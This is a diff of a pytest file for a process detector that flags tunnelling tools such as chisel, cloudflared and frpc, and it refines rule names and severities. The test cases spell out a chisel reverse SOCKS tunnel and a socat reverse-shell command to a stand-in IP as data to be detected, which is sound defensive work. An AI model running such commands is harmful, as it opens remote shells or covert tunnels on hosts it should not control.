@@ -258,10 +258,16 @@ def test_ssh_by_argv0_only_and_local_forward(det: ProcessDetector) -> None:
 @pytest.mark.parametrize(
     ("args", "rule", "severity"),
     [
-        (("chisel", "client", "203.0.113.5:8000", "R:socks"), "tunnel.tool", Severity.HIGH),
-        (("cloudflared", "tunnel", "--url", "http://localhost:8000"), "tunnel.tool", Severity.HIGH),
+        (("chisel", "client", "203.0.113.5:8000", "R:socks"), "tunnel.chisel", Severity.HIGH),
+        (("chisel", "--version"), "tunnel.tool", Severity.HIGH),
+        (
+            ("cloudflared", "tunnel", "--url", "http://localhost:8000"),
+            "tunnel.cloudflared",
+            Severity.HIGH,
+        ),
         (("cloudflared", "access", "login"), "tunnel.tool", Severity.MEDIUM),
-        (("frpc", "-c", "frpc.toml"), "tunnel.tool", Severity.HIGH),
+        (("frpc", "-c", "frpc.toml"), "tunnel.frp", Severity.HIGH),
+        (("frpc", "-c", "/etc/tun/client.ini"), "tunnel.tool", Severity.HIGH),
         (
             ("socat", "TCP:203.0.113.5:4444", "EXEC:/bin/bash,pty,stderr"),
             "tunnel.reverse_shell",
